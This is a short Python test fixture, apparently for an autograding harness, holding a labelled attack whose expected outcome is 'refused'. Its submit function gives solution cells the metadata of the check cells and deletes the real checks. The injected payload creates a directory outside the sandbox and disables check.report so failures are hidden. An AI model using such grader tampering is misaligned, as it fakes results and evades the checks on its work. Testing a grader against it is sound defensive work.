# attack: the answer's own cell bears the check's grade_id, so that its code might run where checks run
# outcome: refused
# stock: run
# %% submission
import copy

TRAP = "import os\nos.mkdir('@HOME@/ran-outside')\ncheck.report = lambda *a: None\n12.0"


def submit(nb, folder, places):
    checks = {cell.metadata.nbgrader.grade_id: cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade")}
    for cell in nb.cells:
        marking = cell.metadata.get("nbgrader", {})
        if marking.get("solution"):
            cell.metadata = copy.deepcopy(checks[f"check-{marking['grade_id']}"].metadata)
            cell.source = TRAP.replace("@HOME@", str(places["HOME"]))
    nb.cells = [cell for cell in nb.cells if cell not in checks.values()]
